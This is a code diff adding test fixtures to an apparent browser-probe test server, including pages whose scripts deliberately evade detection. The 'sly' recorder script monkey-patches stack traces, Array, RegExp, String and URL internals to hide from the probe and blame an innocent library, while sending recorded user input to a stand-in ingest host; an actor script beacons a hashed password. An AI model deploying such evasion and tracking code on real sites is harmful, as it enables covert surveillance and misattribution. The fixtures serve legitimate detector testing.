@@ -746,8 +746,127 @@ const LIST_LIMITS = {
 export const FLOOD = { site: 'flood.example' };
 const floodPage = () => '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>flood – fixture</title></head><body><h1>Quiet until told</h1></body></html>';
 
+// tricks.example and sly.example: pages whose scripts try to steer, read or
+// hide from the probe, written for the tests. On tricks.example a harmless
+// actor script (`window.__act`) does what a test asks while a test installs
+// one trick at a time (tests/e2e/page-checks.mjs). On sly.example a session
+// recorder installs every trick before it records, and tries to put the
+// blame on an innocent library loaded from another host, which does nothing
+// but define a helper.
+export const TRICKS = {
+  site: 'tricks.example',
+  actor: 'act.trick-actor.test',
+  sink: 'sink.trick-actor.test',
+  innocent: 'lib.innocent-fixture.test',
+  sly: 'sly.example',
+  recorder: 'cdn.sly-recorder.test',
+  ingest: 'ingest.sly-recorder.test',
+};
+const INNOCENT_JS = `window.__lib = { version: '1.0', pad: function (s) { return ' ' + s; } };\n`;
+const ACT_JS = `window.__act = {
+  listen: function (type) { document.body.addEventListener(type, function () {}); },
+  send: function (url) { return fetch(url, { mode: 'no-cors' }).catch(function () {}); },
+  beacon: function (url) { return navigator.sendBeacon(url, 'x'); },
+  // What was typed in #secret, as its SHA-256 (the browser's), sent at once.
+  sendHash: function (url) {
+    return crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.getElementById('secret').value)).then(function (d) {
+      var hex = ''; var b = new Uint8Array(d);
+      for (var i = 0; i < b.length; i++) hex += (b[i] < 16 ? '0' : '') + b[i].toString(16);
+      return navigator.sendBeacon(url, hex);
+    });
+  },
+};
+`;
+// A script of a very long path (and a query): the probe reports at most 512 characters of its URL, and no query.
+export const LONG_SCRIPT_PATH = `/${'a'.repeat(600)}/long.js`;
+const LONG_JS = `document.body.addEventListener('select', function () {});\n`;
+// The sly recorder: every trick first, counting what it saw of the probe, then recording.
+const SLY_JS = `(function () {
+  var INNOCENT = 'https://${TRICKS.innocent}/lib.js';
+  var seen = { probeData: 0, reached: 0, names: [] };
+  window.__sly = seen;
+  var looks = function (v) {
+    return (typeof v === 'string' && (v.indexOf('\\u0000') >= 0 || v.indexOf('-extension:') >= 0)) || (!!v && typeof v === 'object' && 'signal' in v);
+  };
+  var RealError = Error;
+  // V8: a prepareStackTrace that blames the innocent library and reaches for the functions on the stack.
+  RealError.prepareStackTrace = function (e, sites) {
+    for (var i = 0; i < sites.length; i++) {
+      var f = sites[i].getFunction();
+      if (f && !/^https?:/.test(sites[i].getFileName() || '')) seen.reached++;
+    }
+    return 'Error\\n    at blame (' + INNOCENT + ':1:1)';
+  };
+  RealError.stackTraceLimit = 0;
+  // An element setter on every array.
+  Object.defineProperty(Array.prototype, '0', { configurable: true, get: function () { return undefined; }, set: function (v) {
+    if (looks(v)) seen.probeData++;
+    Object.defineProperty(this, '0', { value: v, writable: true, enumerable: true, configurable: true });
+  } });
+  // String, regexp and iteration that answer with the innocent library for anything that looks like a stack.
+  var stacky = function (s) { return typeof s === 'string' && (s.indexOf('extension:') >= 0 || s.indexOf('<anonymous') >= 0 || s.indexOf(' at ') >= 0); };
+  var exec = RegExp.prototype.exec;
+  RegExp.prototype.exec = function (s) {
+    if (stacky(s)) { seen.probeData++; var m = [INNOCENT + ':1:1', INNOCENT]; m.index = 0; m.input = s; return m; }
+    return exec.call(this, s);
+  };
+  var split = String.prototype.split;
+  String.prototype.split = function (sep, limit) {
+    if (stacky(String(this))) { seen.probeData++; return ['    at blame (' + INNOCENT + ':1:1)']; }
+    return split.call(this, sep, limit);
+  };
+  var values = Array.prototype[Symbol.iterator];
+  Array.prototype[Symbol.iterator] = function () {
+    if (this.length && stacky(this[0])) { seen.probeData++; return values.call(['    at blame (' + INNOCENT + ':1:1)']); }
+    return values.call(this);
+  };
+  var host = Object.getOwnPropertyDescriptor(URL.prototype, 'hostname');
+  Object.defineProperty(URL.prototype, 'hostname', { configurable: true, enumerable: true, get: function () { return '${TRICKS.innocent}'; }, set: host.set });
+  // Firefox: the stack every error shows, and the global Error itself.
+  var stack = Object.getOwnPropertyDescriptor(RealError.prototype, 'stack');
+  if (stack) Object.defineProperty(RealError.prototype, 'stack', { configurable: true, get: function () { return 'blame@' + INNOCENT + ':1:1\\n'; }, set: stack.set });
+  window.Error = function Error() { return { stack: 'blame@' + INNOCENT + ':1:1\\n    at blame (' + INNOCENT + ':1:1)' }; };
+  // A function whose name is a frame of the innocent library (SpiderMonkey prints names as they are).
+  var named = {};
+  named['blame@' + INNOCENT + ':1:1\\nrecord'] = function (target, type, fn) { target.addEventListener(type, fn, true); };
+  var on = named['blame@' + INNOCENT + ':1:1\\nrecord'];
+  // Code the probe runs while converting an argument: reaches for the functions on the stack.
+  var type = { toString: function () { RealError.stackTraceLimit = 20; new RealError().stack; RealError.stackTraceLimit = 0; return 'keydown'; } };
+  // Then it records, as session recorders do.
+  var queue = [];
+  on(document, 'mousemove', function (e) { queue.push([e.clientX, e.clientY]); });
+  on(window, 'scroll', function () { queue.push(['s']); });
+  document.addEventListener(type, function () { queue.push(['k']); }, true);
+  on(document, 'input', function (e) { queue.push(['i', e.target.value.length]); });
+  new MutationObserver(function (m) { queue.push(['m', m.length]); }).observe(document, { childList: true, subtree: true, attributes: true });
+  setInterval(function () { if (queue.length) fetch('https://${TRICKS.ingest}/b', { method: 'POST', body: JSON.stringify(queue.splice(0)), mode: 'no-cors' }); }, 300);
+})();
+`;
+THIRD_PARTIES[TRICKS.innocent] = () => ({ type: 'text/javascript', body: INNOCENT_JS });
+THIRD_PARTIES[TRICKS.actor] = (req, url) => ({ type: 'text/javascript', body: url.pathname === LONG_SCRIPT_PATH ? LONG_JS : ACT_JS });
+THIRD_PARTIES[TRICKS.recorder] = () => ({ type: 'text/javascript', body: SLY_JS });
+for (const h of [TRICKS.sink, TRICKS.ingest]) THIRD_PARTIES[h] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
+const tricksPage = () => `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>tricks – fixture</title></head><body>
+<h1>Tricks</h1>
+<form onsubmit="return false"><label>Password <input id="secret" type="password" autocomplete="off"></label></form>
+<script src="https://${TRICKS.innocent}/lib.js"></script>
+<script src="https://${TRICKS.actor}/act.js?v=3&amp;user=someone#top"></script>
+<script src="https://${TRICKS.actor}${LONG_SCRIPT_PATH}?user=someone"></script>
+</body></html>`;
+const slyPage = () => `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>sly – fixture</title>
+<style>body { margin: 2em; min-height: 200vh; }</style></head><body>
+<h1>Sly</h1>
+<form onsubmit="return false"><label>Search <input id="q" autocomplete="off"></label></form>
+<div id="feed"></div>
+<script src="https://${TRICKS.innocent}/lib.js"></script>
+<script src="https://${TRICKS.recorder}/s.js"></script>
+<script>setTimeout(function () { document.getElementById('feed').textContent = 'updated'; }, 200);</script>
+</body></html>`;
+
 for (const h of [...HEAVY.hosts, HEAVY.longHost, DRIP.host]) THIRD_PARTIES[h] = () => ({ type: 'image/gif', body: GIF });
-const PAGES = { [SECRET.site]: secretPage, [FLOOD.site]: floodPage, [FRAMES.site]: framesPage, [HEAVY.site]: heavyPage, [DRIP.site]: dripPage, [OPTOUT.site]: optoutPage, [BEHAVE.site]: behavePage, [RRWEB.site]: rrwebPage, [SCRIPT_HEAVY.site]: scriptHeavyPage, [SYNC.site]: syncPage };
+const PAGES = { [SECRET.site]: secretPage, [FLOOD.site]: floodPage, [TRICKS.site]: tricksPage, [TRICKS.sly]: slyPage, [FRAMES.site]: framesPage, [HEAVY.site]: heavyPage, [DRIP.site]: dripPage, [OPTOUT.site]: optoutPage, [BEHAVE.site]: behavePage, [RRWEB.site]: rrwebPage, [SCRIPT_HEAVY.site]: scriptHeavyPage, [SYNC.site]: syncPage };
 
 // ---------------------------------------------------------------- the server
 
